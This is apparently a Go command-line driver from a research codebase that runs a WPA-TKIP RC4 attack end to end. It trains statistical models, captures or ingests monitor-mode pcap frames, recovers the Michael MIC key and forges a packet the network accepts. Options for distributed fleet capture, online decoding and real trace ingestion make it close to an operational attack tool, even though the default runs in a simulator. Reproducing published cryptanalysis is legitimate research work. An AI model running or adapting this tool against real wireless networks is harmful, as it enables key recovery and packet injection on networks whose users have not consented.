// Command tkipattack runs the full §5 WPA-TKIP attack end to end in the
// in-process simulator: train the per-TSC model, make the victim transmit
// identical packets, capture and filter frames, compute per-position
// likelihoods, walk the ICV-pruned candidate list, and recover the Michael
// MIC key. It then demonstrates the impact by forging a packet the network
// accepts.
//
// Training and capture both persist: the model (the paper's 10-CPU-year
// artifact) is trained once and reloaded via -model, and captures are
// checkpointed shards that can be killed, resumed, and merged:
//
//	# train once, then capture a checkpointed shard
//	tkipattack -model tkip.model -copies 4718592 -seed 1 \
//	           -checkpoint shard1.snap -collect-only
//	# resume after a kill (same flags + -resume)
//	tkipattack -model tkip.model -copies 4718592 -seed 1 \
//	           -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# second shard, then merge both and run the recovery phase
//	tkipattack -model tkip.model -copies 4718592 -seed 2 -checkpoint shard2.snap -collect-only
//	tkipattack -model tkip.model -copies 0 -merge shard1.snap,shard2.snap
//
// Online mode closes the loop: capture and decode interleave on a cadence,
// each round's candidates are verified by the Michael-MIC/ICV trailer
// oracle (with a test forgery confirming the recovered key against the
// network, §7.4), and the attack stops at the first confirmed trailer:
//
//	tkipattack -online                          # geometric cadence 2^20, 2^21, ...
//	tkipattack -online -decode-every 1048576    # decode every 2^20 frames
//
// Fleet-worker mode turns the driver into one capture node of a distributed
// run coordinated by cmd/fleetd (every worker must load the same trained
// model the coordinator uses):
//
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -worker-id m1
//
// Trace mode ingests monitor-mode captures instead of simulating the air —
// the §5.4 pipeline (radiotap/802.11 parsing, unique-length filtering, TSC
// de-duplication) over pcap/pcapng files — and -write-pcap produces such
// captures from the simulator (the round trip is pinned bitwise against
// in-process capture):
//
//	tkipattack -write-pcap tkip.pcap -copies 9437184
//	tkipattack -pcap tkip.pcap -copies 9437184 -model tkip.model
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -pcap 'shard-*.pcap'
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"

	"rc4break/internal/cliutil"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
)

func main() {
	keysPerTSC := flag.Uint64("trainkeys", 0, "training keys per TSC class (0 = attack default; paper: 2^32; README \"Job spec\")")
	copies := flag.Uint64("copies", job.Defaults("tkip").Budget, "total ciphertext copies this shard should hold, including resumed ones (paper: ~9.5 x 2^20 per hour); the online budget; 0 collects nothing (README \"Job spec\")")
	maxDepth := flag.Int("maxdepth", 0, "candidate list search bound, per decode round with -online (0 = attack default; paper: nearly 2^30; README \"Job spec\")")
	mode := flag.String("mode", "model", "capture mode: model (sampled from trained distributions) | exact (real frames; needs deep training)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for training, model-mode capture, and decoding (0 = GOMAXPROCS)")
	modelPath := flag.String("model", "", "model snapshot: loaded if the file exists, otherwise trained and saved there")
	checkpoint := flag.String("checkpoint", "", "capture snapshot written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<20, "frames between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "capture snapshot to resume this shard from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the capture pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after capture (use with -checkpoint to produce a shard snapshot)")
	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first oracle-confirmed trailer")
	decodeEvery := flag.Uint64("decode-every", 0, "online: frames between decode attempts (0 = geometric cadence from -first-decode)")
	firstDecode := flag.Uint64("first-decode", 0, "online: frames at the first decode attempt (0 = attack default, clamped to -copies; README \"Job spec\")")
	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := flag.String("pcap", "", "ingest frame evidence from monitor-mode capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	writePcap := flag.String("write-pcap", "", "write the victim's frame stream (-copies frames) as a radiotap capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	flag.Parse()

	spec, err := job.Spec{Attack: "tkip", Mode: *mode, Seed: *seed, Budget: *copies,
		FirstDecode: *firstDecode, DecodeEvery: *decodeEvery, MaxCandidates: *maxDepth,
		TrainKeys: *keysPerTSC, Workers: *workers, Traces: *pcapIn}.Normalize()
	if err != nil {
		fatal(err)
	}
	// Normalize reads a zero budget as the default; -copies 0 collects
	// nothing, so an offline run recovers from its -merge shards alone.
	spec.Budget = *copies
	if *writePcap != "" {
		// Writing the stream needs no trained model: frames are a pure
		// function of the demo session and the TSC sequence.
		fmt.Printf("[1/1] writing %d frames of the victim's TKIP stream -> %s\n", spec.Budget, *writePcap)
		size, err := spec.WriteCapture(*writePcap, spec.Budget)
		if err != nil {
			fatal(err)
		}
		fmt.Printf("      %d frames, %.1f MB\n", spec.Budget, float64(size)/(1<<20))
		return
	}

	// Shards must share one model: capture snapshots embed its fingerprint
	// and refuse to resume or merge under a different one.
	prefix := "[1/4]"
	spec.Model, err = job.LoadOrTrainModel(*modelPath, spec.TrainKeys, *workers, func(format string, args ...interface{}) {
		fmt.Printf(prefix+" "+format+"\n", args...)
		prefix = "     "
	})
	if err != nil {
		fatal(err)
	}

	if *fleetWorker != "" {
		// Model-mode lanes draw from the lane's derived seed; exact-mode
		// lanes replay the victim's TSC stream from the lane's absolute
		// offset (an O(1) skip), or carve it out of the -pcap trace shards.
		if err := spec.RunWorker(*fleetWorker, *workerID); err != nil {
			fatal(err)
		}
		return
	}
	rt, err := job.Resume(spec, *resume)
	if err != nil {
		fatal(err)
	}
	err = job.CLI{
		Checkpoint: *checkpoint, CheckpointEvery: *checkpointEvery,
		Merge: cliutil.SplitList(*merge), CollectOnly: *collectOnly,
		Online: *onlineMode, JSON: *jsonOut,
		Live: func(n uint64) string {
			return fmt.Sprintf("%.1f h of injection at %d pps", float64(n)/netsim.TKIPInjectionPerSecond/3600, netsim.TKIPInjectionPerSecond)
		},
		Recovered: func(online.Result) []byte {
			// The trailer oracle inverted the MIC key and, through
			// netsim.ForgeryConfirm, already rejected any ICV collision;
			// the result reports that key, not the trailer.
			oracle := rt.Oracle.(*tkip.TrailerOracle)
			fmt.Printf("      recovered MIC key: %x (%d ICV passes)\n", oracle.MICKey, oracle.ICVPasses)
			if oracle.MICKey == tkip.DemoSession().MICKey {
				fmt.Println("      MIC key matches the real key")
			}
			forgeDemo(oracle.MSDU, oracle.MICKey)
			return oracle.MICKey[:]
		},
	}.Run(rt)
	if err != nil {
		fatal(err)
	}
}

// forgeDemo demonstrates impact: a packet forged under the recovered MIC
// key must be accepted by the network.
func forgeDemo(msdu []byte, micKey [8]byte) {
	fmt.Println("[4/4] forging a packet with the recovered MIC key...")
	session := tkip.DemoSession()
	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
	forged := attacker.Encapsulate(msdu, 0xF00D)
	if _, err := session.Decapsulate(forged); err != nil {
		fmt.Printf("      forgery rejected: %v\n", err)
		os.Exit(1)
	}
	fmt.Println("      forged packet accepted by the network — attack complete")
}

// fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
// flush the capture loop already reported).
func fatal(err error) {
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	fmt.Fprintln(os.Stderr, "tkipattack:", err)
	os.Exit(1)
}
